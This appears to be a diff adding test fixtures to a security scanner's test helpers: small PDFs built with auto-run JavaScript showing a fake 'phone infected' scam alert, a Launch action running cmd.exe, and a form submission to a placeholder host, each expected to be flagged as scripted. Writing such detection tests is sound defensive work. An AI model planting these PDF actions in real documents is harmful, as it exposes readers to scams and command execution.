@@ -157,3 +157,14 @@ def with_duplicate(package: Path, name: str, first: bytes, out: Path) -> Path:
             for info in source.infolist():
                 archive.writestr(info, source.read(info))
     return out
+
+
+# PDFs that would run something in the reader's viewer (finding 12): each says "scripted" when it can.
+ALERT = b"<< /S /JavaScript /JS (app.alert('Your phone is infected: call 0800 000 000')) >>"
+SCRIPTED_PDFS = {
+    "opening script": tiny_pdf("Wash your hands", b"/OpenAction 6 0 R ", ALERT),
+    "named script": tiny_pdf("Wash your hands", b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >> ", ALERT),
+    "script inline": tiny_pdf("Wash your hands", b"/OpenAction " + ALERT + b" "),
+    "launch": tiny_pdf("Wash your hands", b"/OpenAction << /S /Launch /F (cmd.exe) >> "),
+    "form sent away": tiny_pdf("Wash your hands", b"/OpenAction << /S /SubmitForm /F (http://x.test/) >> "),
+}
